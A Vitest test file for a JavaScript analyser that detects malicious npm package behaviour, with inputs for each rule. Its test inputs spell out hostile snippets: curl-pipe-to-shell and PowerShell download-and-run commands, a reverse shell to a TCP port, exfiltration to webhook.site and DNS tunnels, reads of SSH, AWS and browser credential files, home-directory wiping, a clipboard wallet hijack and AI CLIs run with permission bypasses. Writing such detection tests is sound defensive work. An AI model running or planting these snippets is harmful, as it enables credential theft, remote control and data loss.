import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { prng } from '../../core/randomness.js';
import { analyseJavaScript, mayHaveSignals } from './code-analyser.js';
import { LONG_LINE_ENTROPY, lineEntropy } from './code-text.js';

/** Every input a test expects a signal from; each must pass the pre-filter. */
const POSITIVE_INPUTS: string[] = [];

/** `ruleId@line:column` (plus `!severity` for threats) of every signal, in source order. */
function hits(src: string): string[] {
  const out = analyseJavaScript('lib/index.js', src).signals.map(
    (s) => `${s.ruleId}@${s.line}:${s.column}${s.kind === 'threat' ? `!${s.severity}` : ''}`,
  );
  if (out.length > 0) POSITIVE_INPUTS.push(src);
  return out;
}

function threats(src: string): string[] {
  const out = analyseJavaScript('lib/index.js', src)
    .signals.filter((s) => s.kind === 'threat')
    .map((s) => `${s.ruleId}@${s.line}:${s.column}`);
  if (out.length > 0) POSITIVE_INPUTS.push(src);
  return out;
}

function only(src: string, ruleId: string) {
  POSITIVE_INPUTS.push(src);
  const found = analyseJavaScript('lib/index.js', src).signals.filter((s) => s.ruleId === ruleId);
  expect(found).toHaveLength(1);
  return found[0]!;
}

describe('capabilities', () => {
  it('network: require, import and global fetch/WebSocket, once per file at the first occurrence', () => {
    expect(hits("const h = require('https');\nconst n = require('node:net');")).toEqual([
      'npm.capability.network@1:11',
    ]);
    expect(hits("import net from 'node:net';")).toEqual(['npm.capability.network@1:1']);
    expect(hits('x();\nconst s = new WebSocket(u);')).toEqual(['npm.capability.network@2:11']);
    expect(hits("const r = await fetch('https://example.com/data.json');")).toEqual([
      'npm.capability.network@1:17',
    ]);
  });

  it('child-process: the module and Bun.spawn; a regex exec() is not a process', () => {
    expect(hits("const { exec } = require('child_process');")).toEqual(['npm.capability.child-process@1:18']);
    expect(hits("Bun.spawn(['ls']);")).toEqual(['npm.capability.child-process@1:1']);
    expect(hits('const m = /a/.exec(s);')).toEqual([]);
  });

  it('fs-write: calls on fs, fs/promises imports and require("fs").x; other objects are not fs', () => {
    expect(hits("const fs = require('fs');\nfs.writeFileSync('out.txt', 'x');")).toEqual([
      'npm.capability.fs-write@2:1',
    ]);
    expect(hits("import { writeFile as wf } from 'fs/promises';\nawait wf('a', 'b');")).toEqual([
      'npm.capability.fs-write@2:7',
    ]);
    expect(hits("require('fs-extra').outputFileSync('a', 'b');")).toEqual(['npm.capability.fs-write@1:1']);
    expect(hits("const { appendFileSync: add } = require('node:fs');\nadd('a', 'b');")).toEqual([
      'npm.capability.fs-write@2:1',
    ]);
    expect(hits("store.rename('a', 'b');")).toEqual([]);
  });

  it('env-read, eval, dynamic-require and native-binary', () => {
    expect(hits('const t = process.env.TOKEN;')).toEqual(['npm.capability.env-read@1:11']);
    expect(hits('eval(code);')).toEqual(['npm.capability.eval@1:1']);
    expect(hits('x();\n(0, eval)(code);')).toEqual(['npm.capability.eval@2:1']);
    expect(hits("const f = new Function('a', 'return a');")).toEqual(['npm.capability.eval@1:11']);
    expect(hits('vm.runInNewContext(src, {});')).toEqual(['npm.capability.eval@1:1']);
    expect(hits('const m = require(name);')).toEqual(['npm.capability.dynamic-require@1:11']);
    expect(hits('const m = await import(spec);')).toEqual(['npm.capability.dynamic-require@1:17']);
    expect(hits("const a = require('./build/Release/addon.node');")).toEqual([
      'npm.capability.native-binary@1:11',
    ]);
    expect(hits('process.dlopen(module, file);')).toEqual(['npm.capability.native-binary@1:1']);
  });

  it('lists relative imports of require, import, export-from and import()', () => {
    const r = analyseJavaScript(
      'a.js',
      "import x from './x.js';\nexport * from '../y.js';\nconst z = require('./z');\nimport('./w.js');\nrequire('lodash');",
    );
    expect(r.imports).toEqual(['./x.js', '../y.js', './z', './w.js']);
    expect(r.parsed).toBe(true);
    expect(r.parseError).toBeNull();
  });
});

describe('credential-read', () => {
  it('folds path.join(os.homedir(), ...) into a credential path', () => {
    const s = only("const p = path.join(os.homedir(), '.aws', 'credentials');", 'npm.threat.credential-read');
    expect([s.line, s.column, s.severity, s.category, s.file]).toEqual([
      1,
      11,
      'medium',
      'credential-read',
      'lib/index.js',
    ]);
    expect(s.snippet).toBe("const p = path.join(os.homedir(), '.aws', 'credentials');");
  });

  it('catches literal paths, concatenations, templates, browser and wallet stores and .env reads', () => {
    expect(threats("x();\nconst k = '~/.ssh/id_rsa';")).toEqual(['npm.threat.credential-read@2:11']);
    expect(threats("const k = home + '/.n' + 'pmrc';")).toEqual(['npm.threat.credential-read@1:11']);
    expect(threats("const k = ['~/.s', 'sh/id_rsa'].join('');")).toEqual(['npm.threat.credential-read@1:11']);
    expect(threats('const k = `${process.env.HOME}/.npmrc`;')).toEqual(['npm.threat.credential-read@1:11']);
    expect(threats("const d = 'Google/Chrome/User Data/Default/Login Data';")).toEqual([
      'npm.threat.credential-read@1:11',
    ]);
    expect(threats("const id = 'nkbihfbeogaeaoehlefnkodbefgpgknn';")).toEqual([
      'npm.threat.credential-read@1:12',
    ]);
    expect(
      threats(
        "const w = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Local State';",
      ),
    ).toEqual(['npm.threat.credential-read@1:11']);
    expect(threats("const e = fs.readFileSync('.env', 'utf8');")).toEqual([
      'npm.threat.credential-read@1:11',
    ]);
    POSITIVE_INPUTS.push("const k = home + '/.n' + 'pmrc';", "const e = fs.readFileSync('.env', 'utf8');");
  });

  it('ignores comments, bare config-file names and prose', () => {
    expect(threats('// reads ~/.npmrc and ~/.aws/credentials\n/* ~/.ssh/id_rsa */\nconst a = 1;')).toEqual(
      [],
    );
    expect(threats("const names = ['.npmrc', '.yarnrc.yml'];")).toEqual([]);
    expect(threats("throw new Error('Invalid login data');")).toEqual([]);
    expect(threats("const e = fs.readFileSync('.envrc.example');")).toEqual([]);
  });
});

describe('metadata-endpoint and exfiltration', () => {
  it('flags the instance metadata address', () => {
    expect(hits("fetch('http://169.254.169.254/latest/meta-data/');")).toEqual([
      'npm.capability.network@1:1',
      'npm.threat.metadata-endpoint@1:7!medium',
    ]);
    expect(threats("const h = 'metadata.google.internal';")).toEqual(['npm.threat.metadata-endpoint@1:11']);
  });

  it('flags exfiltration hosts and public raw-IP URLs, not ordinary or private URLs', () => {
    expect(threats("post('https://webhook.site/0f3e');")).toEqual(['npm.threat.exfiltration@1:6']);
    expect(threats("post('http://45.9.148.3:8080/c');")).toEqual(['npm.threat.exfiltration@1:6']);
    expect(threats("const u = 'https://api.github.com/user/repos';")).toEqual([
      'npm.threat.exfiltration@1:11',
    ]);
    const gh =
      "https.request({ hostname: 'api.github.com', path: '/user/repos', method: 'POST',\n  headers: { Authorization: `token ${t}` } });";
    expect(threats(gh)).toEqual(['npm.threat.exfiltration@1:27']);
    expect(threats("https.request({ hostname: 'api.github.com', path: '/user/repos' });")).toEqual([]);
    expect(
      threats("post('http://127.0.0.1:3000/'); post('http://192.168.1.10/'); post('https://example.com/');"),
    ).toEqual([]);
    expect(threats("const note = 'toast.fun is a game';")).toEqual([]);
    expect(
      threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); lan('http://192.168.1.5/');"),
    ).toEqual([]);
    // Documentation ranges are still raw public-format addresses.
    expect(threats("doc('http://203.0.113.5/');")).toEqual(['npm.threat.exfiltration@1:5']);
    POSITIVE_INPUTS.push("post('https://webhook.site/0f3e');", "post('http://45.9.148.3:8080/c');");
  });

  it('flags DNS queries whose name carries data under a fixed domain', () => {
    expect(threats('dns.resolve4(`${chunk}.x.evil.com`, cb);')).toEqual(['npm.threat.exfiltration@1:1']);
    expect(threats("dns.promises.lookup(data + '.tunnel.example.net');")).toEqual([
      'npm.threat.exfiltration@1:1',
    ]);
    expect(threats('dns.lookup(host, cb);')).toEqual([]);
    POSITIVE_INPUTS.push('dns.resolve4(`${chunk}.x.evil.com`, cb);');
  });
});

describe('env-serialise', () => {
  it('flags the whole environment reaching stringify, URLSearchParams or a sender', () => {
    expect(hits('const b = JSON.stringify(process.env);')).toEqual([
      'npm.threat.env-serialise@1:11!medium',
      'npm.capability.env-read@1:26',
    ]);
    expect(threats('const q = new URLSearchParams(process.env);')).toEqual(['npm.threat.env-serialise@1:11']);
    expect(threats('res.send(Object.entries(process.env));')).toEqual(['npm.threat.env-serialise@1:1']);
    expect(
      threats("const b = Buffer.from(JSON.stringify({ env: process.env })).toString('base64');"),
    ).toEqual(['npm.threat.env-serialise@1:23']);
    POSITIVE_INPUTS.push('res.send(Object.entries(process.env));');
  });

  it('does not flag spreading or passing env to child processes', () => {
    expect(threats("spawn('node', ['a.js'], { env: { ...process.env, X: '1' } });")).toEqual([]);
    expect(threats("spawn('node', ['a.js'], { env: process.env });")).toEqual([]);
    expect(threats('const s = JSON.stringify({ ...process.env });')).toEqual([]);
    expect(threats('const v = JSON.stringify(process.env.PATH);')).toEqual([]);
  });
});

describe('obfuscation', () => {
  it('counts five distinct _0x identifiers', () => {
    const src = 'var a = _0x1a2b + _0x3c4d + _0x5e6f + _0x7a8b + _0x9c0d;';
    expect(threats(src)).toEqual(['npm.threat.obfuscation@1:9']);
    expect(threats('var a = _0x1a2b + _0x3c4d + _0x5e6f + _0x7a8b;')).toEqual([]);
    POSITIVE_INPUTS.push(src);
  });

  it('rates eval of decoded data high, and raises all obfuscation to high when kinds co-occur', () => {
    expect(hits("eval(Buffer.from(s, 'base64').toString());")).toEqual([
      'npm.capability.eval@1:1',
      'npm.threat.obfuscation@1:1!high',
    ]);
    expect(threats('new Function(atob(p))();')).toEqual(['npm.threat.obfuscation@1:1']);
    expect(threats('eval(x);')).toEqual([]);
    // Names bound to decoded data, also when the decoding call is spelled with escapes.
    expect(threats("const p = Buffer.from(s, 'hex');\nlet q = 1;\neval(p);")).toEqual([
      'npm.threat.obfuscation@3:1',
    ]);
    expect(threats("const p = Buffer['fr\\x6fm'](s, 'base64');\neval(p);")).toEqual([
      'npm.threat.obfuscation@2:1',
    ]);
    expect(threats('const p = \\u0061tob(s);\neval(p);')).toEqual(['npm.threat.obfuscation@2:1']);
    expect(threats('const p = Buffer.concat(s);\neval(p);')).toEqual([]);
    const both = `var a = _0x1a2b + _0x3c4d + _0x5e6f + _0x7a8b + _0x9c0d;${' '.repeat(200)}eval(x);`;
    expect(hits(both).filter((h) => h.includes('obfuscation'))).toEqual([
      'npm.threat.obfuscation@1:9!high',
      'npm.threat.obfuscation@1:257!high',
    ]);
  });

  it('flags code pushed off-screen after a statement, not long indentation or padded comments', () => {
    expect(threats(`const a = 1;${' '.repeat(180)}require('x');`)).toEqual(['npm.threat.obfuscation@1:193']);
    expect(threats(`const a = 1;${' '.repeat(180)}// note`)).toEqual([]);
    POSITIVE_INPUTS.push(`const a = 1;${' '.repeat(180)}require('x');`);
  });

  it('flags a long ASCII line with base64-like entropy, not a long minified-looking line', () => {
    const rnd = prng(7);
    const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    let blob = '';
    for (let i = 0; i < 6000; i++) blob += abc[Math.floor(rnd() * 64)];
    const src = `var p = 1;\nvar k = '${blob}';`;
    expect(threats(src)).toEqual(['npm.threat.obfuscation@2:1']);
    expect(threats(`var k = '${'abcd efgh; '.repeat(600)}';`)).toEqual([]);
    // Minified code is as dense in symbols as base64 (entropy above the bar), but full of keywords.
    const ids = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ$_';
    const punct = '(){}[],;.:=!&|?+-*<>`"';
    const words = ['return ', 'function(', 'let ', 'const ', '=>', 'new ', 'this.', 'null', 'typeof '];
    const pick = (from: string | string[]): string => from[Math.floor(rnd() * from.length)]!;
    let minified = '';
    while (minified.length < 8000) {
      const r = rnd();
      if (r < 0.05) minified += pick(words);
      else if (r < 0.5) minified += pick(ids) + (rnd() < 0.5 ? pick(ids) : '');
      else if (r < 0.6) minified += String(Math.floor(rnd() * 1000));
      else minified += pick(punct);
    }
    expect(lineEntropy(minified)).toBeGreaterThan(LONG_LINE_ENTROPY);
    expect(threats(`var p = 1;\n${minified}`).filter((t) => t.includes('obfuscation'))).toEqual([]);
    POSITIVE_INPUTS.push(src);
  });
});

describe('persistence', () => {
  it('says "write" when the path is the target of an fs write call', () => {
    const s = only("fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line);", 'npm.threat.persistence');
    expect([s.line, s.column, s.severity]).toEqual([1, 1, 'medium']);
    expect(s.message).toContain('write');
  });

  it('reports a bare path string without "write"', () => {
    const s = only("const rc = '~/.zshrc';", 'npm.threat.persistence');
    expect([s.line, s.column]).toEqual([1, 12]);
    expect(s.message).not.toContain('write');
    expect(threats("const p = path.join(home, '.claude', 'settings.json');")).toEqual([
      'npm.threat.persistence@1:11',
    ]);
    expect(threats("const w = '.github/workflows/ci.yml';")).toEqual(['npm.threat.persistence@1:11']);
    expect(threats("exec('(crontab -l; echo x) | crontab -');")).toEqual(['npm.threat.persistence@1:1']);
    POSITIVE_INPUTS.push("exec('(crontab -l; echo x) | crontab -');");
  });

  it('does not flag property paths that merely contain .profile', () => {
    expect(threats("redact({ paths: ['users.*.profile.preferences.apiKey'] });")).toEqual([]);
  });
});

describe('self-propagation', () => {
  it('flags npm publish in command strings and argument arrays, and NPM_TOKEN reads', () => {
    expect(threats("execSync('npm publish --access public');")).toEqual(['npm.threat.self-propagation@1:1']);
    expect(threats("spawn('npm', ['publish', '--tag', 'latest']);")).toEqual([
      'npm.threat.self-propagation@1:1',
    ]);
    expect(threats('const t = process.env.NPM_TOKEN;')).toEqual(['npm.threat.self-propagation@1:11']);
    POSITIVE_INPUTS.push("spawn('npm', ['publish', '--tag', 'latest']);", 'const t = process.env.NPM_TOKEN;');
  });

  it('flags a package.json rewrite only beside other publishing evidence', () => {
    expect(threats("fs.writeFileSync('dist/package.json', data);")).toEqual([]);
    expect(threats("fs.writeFileSync(dir + '/package.json', data);\nexecSync('npm publish');")).toEqual([
      'npm.threat.self-propagation@1:1',
      'npm.threat.self-propagation@2:1',
    ]);
    POSITIVE_INPUTS.push("fs.writeFileSync(dir + '/package.json', data);\nexecSync('npm publish');");
  });
});

describe('ai-cli-abuse', () => {
  it('flags AI CLIs run with permission bypasses, high on its own', () => {
    expect(hits("spawn('claude', ['--dangerously-skip-permissions', '-p', prompt]);")).toEqual([
      'npm.threat.ai-cli-abuse@1:1!high',
    ]);
    expect(threats('exec(\'gemini -y -p "list files"\');')).toEqual(['npm.threat.ai-cli-abuse@1:1']);
    expect(threats("const cmd = 'codex exec --dangerously-bypass-approvals-and-sandbox';")).toEqual([
      'npm.threat.ai-cli-abuse@1:13',
    ]);
    POSITIVE_INPUTS.push('exec(\'gemini -y -p "list files"\');');
  });

  it('joins CLI names and bypass flags kept apart in a file that runs programs', () => {
    const src =
      "const cp = require('child_process');\nconst flags = { claude: ['--dangerously-skip-permissions'] };\nfor (const c of ['claude']) cp.spawn(c, flags[c]);";
    expect(threats(src)).toEqual(['npm.threat.ai-cli-abuse@2:26']);
    expect(
      threats("const flags = { claude: ['--dangerously-skip-permissions'] };\nconst c = 'claude';"),
    ).toEqual([]);
    expect(
      threats("require('child_process').spawn('q', a);\nconst a = ['chat', '--trust-all-tools'];"),
    ).toEqual(['npm.threat.ai-cli-abuse@2:20']);
  });

  it('does not flag ordinary AI CLI runs or -y elsewhere', () => {
    expect(threats("spawn('claude', ['-p', 'hello']);")).toEqual([]);
    expect(threats("exec('npx -y create-app');")).toEqual([]);
  });
});

describe('download-exec, secret-scanner-download and destructive', () => {
  it('flags curl | sh, PowerShell iwr | iex and -enc, and the bun installer', () => {
    expect(hits("exec('curl -sL https://x.io/i.sh | bash');")).toEqual(['npm.threat.download-exec@1:1!high']);
    expect(threats("run('iwr https://x.io/a.ps1 | iex');")).toEqual(['npm.threat.download-exec@1:5']);
    expect(threats("run('powershell -enc SQBFAFgA');")).toEqual(['npm.threat.download-exec@1:5']);
    expect(threats("const u = 'https://bun.sh/install';")).toEqual(['npm.threat.download-exec@1:11']);
    expect(threats("exec('npm i -g bun');")).toEqual([]);
    POSITIVE_INPUTS.push("run('iwr https://x.io/a.ps1 | iex');", "run('powershell -enc SQBFAFgA');");
  });

  it('flags download, chmod +x and run in one file', () => {
    const src =
      "const cp = require('child_process');\ncp.execSync('wget https://x.io/b -O /tmp/b');\nfs.chmodSync('/tmp/b', 0o755);\ncp.execSync('/tmp/b');";
    expect(threats(src)).toEqual(['npm.threat.download-exec@3:1']);
    expect(threats("fs.chmodSync('/tmp/b', 0o755);")).toEqual([]);
    POSITIVE_INPUTS.push(src);
  });

  it('flags secret scanners', () => {
    expect(
      hits(
        "get('https://github.com/trufflesecurity/trufflehog/releases/download/v3.63.0/trufflehog_linux_amd64.tar.gz');",
      ),
    ).toEqual(['npm.threat.secret-scanner-download@1:5!high']);
  });

  it('flags wiping the home or root directory, not build directories', () => {
    expect(threats("exec('rm -rf ~/');")).toEqual(['npm.threat.destructive@1:1']);
    expect(threats("exec('rm -rf / --no-preserve-root');")).toEqual(['npm.threat.destructive@1:1']);
    expect(threats('fs.rmSync(os.homedir(), { recursive: true, force: true });')).toEqual([
      'npm.threat.destructive@1:1',
    ]);
    expect(threats("exec('del /s /q %USERPROFILE%');")).toEqual(['npm.threat.destructive@1:1']);
    expect(threats("exec('rm -rf /tmp/build'); exec('rm -rf ./dist');")).toEqual([]);
    POSITIVE_INPUTS.push(
      "exec('rm -rf / --no-preserve-root');",
      'fs.rmSync(os.homedir(), { recursive: true, force: true });',
      "exec('del /s /q %USERPROFILE%');",
    );
  });
});

describe('wallet-drainer', () => {
  it('needs two techniques and is then high', () => {
    const src =
      "window.fetch = async () => 0;\nwindow.ethereum.request({ method: 'eth_sendTransaction', params });";
    expect(hits(src)).toEqual(['npm.threat.wallet-drainer@1:1!high']);
    expect(threats('const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;')).toEqual([
      'npm.threat.wallet-drainer@1:12',
    ]);
    expect(threats('if (!global.fetch) global.fetch = polyfill;')).toEqual([]);
    POSITIVE_INPUTS.push('const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;');
  });
});

describe('Levenshtein-named identifiers', () => {
  it('are found in any case, behind a \\u escape and in files with non-ASCII text', () => {
    expect(hits('function closest\\u004cevenshtein(a, b) {}\nwindow.fetch = mine;')).toEqual([
      'npm.threat.wallet-drainer@1:10!high',
    ]);
    expect(hits('const café = 1;\nfunction closestByLevenshtein(a) {}\nwindow.fetch = mine;')).toEqual([
      'npm.threat.wallet-drainer@2:10!high',
    ]);
    expect(hits('function LEVENSHTEIN_DISTANCE(a) {}\nwindow.fetch = mine;')).toEqual([
      'npm.threat.wallet-drainer@1:10!high',
    ]);
    expect(hits('function distanceLevenshtain(a) {}\nwindow.fetch = mine;')).toEqual([]);
  });
});

describe('decoded data bound to names', () => {
  it('is seen in initialisers visited after the declarations nested in them, and after unrelated ones', () => {
    expect(hits('const g = () => {\n  const k = 1;\n  return atob(s);\n};\neval(g);')).toEqual([
      'npm.capability.eval@5:1',
      'npm.threat.obfuscation@5:1!high',
    ]);
    const src =
      "const a = 1, b = 'from';\nconst outer = function () { const inner = 2; };\nconst h = Buffer.from(x, 'hex');\neval(h);";
    expect(hits(src)).toEqual(['npm.capability.eval@4:1', 'npm.threat.obfuscation@4:1!high']);
  });
});

describe('files that do not parse', () => {
  it('parses scripts with top-level await and return (meriyah rejects them, acorn accepts them)', () => {
    const r = analyseJavaScript(
      'tla.js',
      "#!/usr/bin/env node\nconst m = await import('node:https');\nif (!m) return;\n",
    );
    expect(r.parsed).toBe(true);
    expect(r.parseError).toBeNull();
    expect(r.signals.map((s) => `${s.ruleId}@${s.line}:${s.column}`)).toEqual([
      'npm.capability.network@2:17',
    ]);
  });

  it('token-scans strings outside comments and notes the parse failure', () => {
    const src = "// '~/.aws/credentials'\nconst x = \"~/.ssh/id_rsa\" +;\n/* 'webhook.site' */";
    POSITIVE_INPUTS.push(src);
    const r = analyseJavaScript('bad.js', src);
    expect(r.parsed).toBe(false);
    expect(r.parseError).toBe('Unexpected token (2:27)');
    expect(r.signals.map((s) => `${s.ruleId}@${s.line}:${s.column}!${s.severity}`)).toEqual([
      'npm.threat.unparsed-code@1:1!info',
      'npm.threat.credential-read@2:11!medium',
    ]);
    expect(r.signals[0]!.message).toContain('token-scanned');
  });

  it('reports the module-mode error of a broken ES module', () => {
    const r = analyseJavaScript('bad.mjs', "import a from 'a';\nconst = 1;");
    expect(r.parseError).toBe('Unexpected token (2:6)');
  });

  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        const r = analyseJavaScript('f.js', s);
        expect(Array.isArray(r.signals)).toBe(true);
      }),
      { numRuns: 300 },
    );
    const pieces = [
      'require(',
      "'",
      '"',
      '`',
      '${',
      '}',
      '/*',
      '*/',
      '//',
      '\n',
      'process.env',
      '+',
      'eval(',
      ')',
      '_0x1234',
      ' '.repeat(160),
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
        expect(() => analyseJavaScript('f.js', parts.join(''))).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });

  it('survives very deep nesting', () => {
    const deep = `${'('.repeat(20000)}1${')'.repeat(20000)}`;
    expect(() => analyseJavaScript('deep.js', deep)).not.toThrow();
  });
});

describe('mayHaveSignals', () => {
  it('passes every positive test input and rejects plain arithmetic', () => {
    expect(POSITIVE_INPUTS.length).toBeGreaterThan(40);
    for (const src of POSITIVE_INPUTS)
      expect([src.slice(0, 60), mayHaveSignals(src)]).toEqual([src.slice(0, 60), true]);
    expect(mayHaveSignals('const a = [1, 2, 3].map((x) => x * 2);')).toBe(false);
  });
});

describe('decoded code, clipboard hijacking and reverse shells', () => {
  it('follows char codes through a variable into new Function and judges the decoded text', () => {
    const codes = [...'curl -fsSL http://203.0.113.9/s.sh | sh'].map((c) => c.charCodeAt(0)).join(',');
    const r = analyseJavaScript('a.js', `const x = String.fromCharCode(${codes});\nnew Function(x)();\n`);
    const ids = r.signals.map((s) => `${s.ruleId}:${s.severity}:${s.line}`);
    expect(ids).toContain('npm.threat.obfuscation:high:2');
    expect(ids).toContain('npm.threat.download-exec:high:1');
  });

  it('does not call a variable of plain text decoded', () => {
    const r = analyseJavaScript('a.js', "const x = 'return 1';\nnew Function(x)();\n");
    expect(r.signals.map((s) => s.ruleId)).toEqual(['npm.capability.eval']);
  });

  it('reports clipboard rewriting with an address pattern as a wallet drainer', () => {
    const code =
      "const { clipboard } = require('electron');\nconst re = /^0x[a-fA-F0-9]{40}$/;\n" +
      "setInterval(() => { if (re.test(clipboard.readText())) clipboard.writeText('0x00'); }, 500);\n";
    const r = analyseJavaScript('p.js', code);
    const w = r.signals.find((s) => s.ruleId === 'npm.threat.wallet-drainer');
    expect(w?.severity).toBe('high');
    expect(w?.message).toContain('clipboard rewriting');
    // Copying to the clipboard alone is what every "copy" button does.
    expect(
      analyseJavaScript('c.js', "navigator.clipboard.writeText('hello');\n").signals.filter(
        (s) => s.kind === 'threat',
      ),
    ).toEqual([]);
  });

  it('reports an interactive shell handed to a TCP socket as a reverse shell', () => {
    const code =
      "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = new net.Socket();\n" +
      "c.connect(4444, '203.0.113.4', () => { const sh = spawn('/bin/sh', ['-i']); c.pipe(sh.stdin); });\n";
    const r = analyseJavaScript('r.js', code);
    const t = r.signals.find((s) => s.ruleId === 'npm.threat.reverse-shell');
    expect([t?.severity, t?.line]).toEqual(['high', 4]);
    const noSocket = analyseJavaScript('s.js', "require('child_process').spawn('/bin/sh', ['-i']);\n");
    expect(noSocket.signals.some((s) => s.ruleId === 'npm.threat.reverse-shell')).toBe(false);
  });
});

describe('one layer of encoding', () => {
  it('judges a base64 payload handed to eval by the string rules', () => {
    const payload = Buffer.from("require('https').get('https://webhook.site/x?' + 1)").toString('base64');
    const r = analyseJavaScript(
      'l.js',
      `const p = Buffer.from('${payload}', 'base64').toString();\neval(p);\n`,
    );
    const ids = r.signals.map((s) => `${s.ruleId}:${s.line}`);
    expect(ids).toContain('npm.threat.obfuscation:2');
    expect(ids).toContain('npm.threat.exfiltration:2');
  });

  it('does not decode what is never evaluated', () => {
    const payload = Buffer.from('https://webhook.site/x').toString('base64');
    const r = analyseJavaScript(
      'l.js',
      `const p = Buffer.from('${payload}', 'base64').toString();\nconsole.log(p);\n`,
    );
    expect(r.signals.filter((s) => s.kind === 'threat')).toEqual([]);
  });
});

describe('hidden modules and recursive home writers', () => {
  it('reports a module name hidden behind a joined array and still sees the module', () => {
    const r = analyseJavaScript('h.js', "const cp = require(['child', 'process'].join('_'));\n");
    expect(r.signals.map((s) => `${s.ruleId}:${s.severity}`)).toEqual([
      'npm.capability.child-process:info',
      'npm.capability.dynamic-require:info',
      'npm.threat.obfuscation:medium',
    ]);
    expect(
      analyseJavaScript('p.js', "const m = require(['lodash', 'get'].join('.'));\n").signals.map(
        (s) => s.ruleId,
      ),
    ).toEqual(['npm.capability.dynamic-require']);
  });

  it('reports a recursive file writer run over the home directory, not over a build directory', () => {
    const walker =
      "const fs = require('fs');\nconst os = require('os');\nfunction wipe(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n" +
      "    const p = dir + '/' + e.name;\n    if (e.isDirectory()) wipe(p); else fs.writeFileSync(p, 'x');\n  }\n}\n";
    const home = analyseJavaScript('w.js', `${walker}wipe(os.homedir());\n`);
    expect(
      home.signals.filter((s) => s.kind === 'threat').map((s) => `${s.ruleId}:${s.severity}:${s.line}`),
    ).toEqual(['npm.threat.destructive:high:9']);
    const build = analyseJavaScript('w.js', `${walker}wipe('dist');\n`);
    expect(build.signals.filter((s) => s.kind === 'threat')).toEqual([]);
  });
});
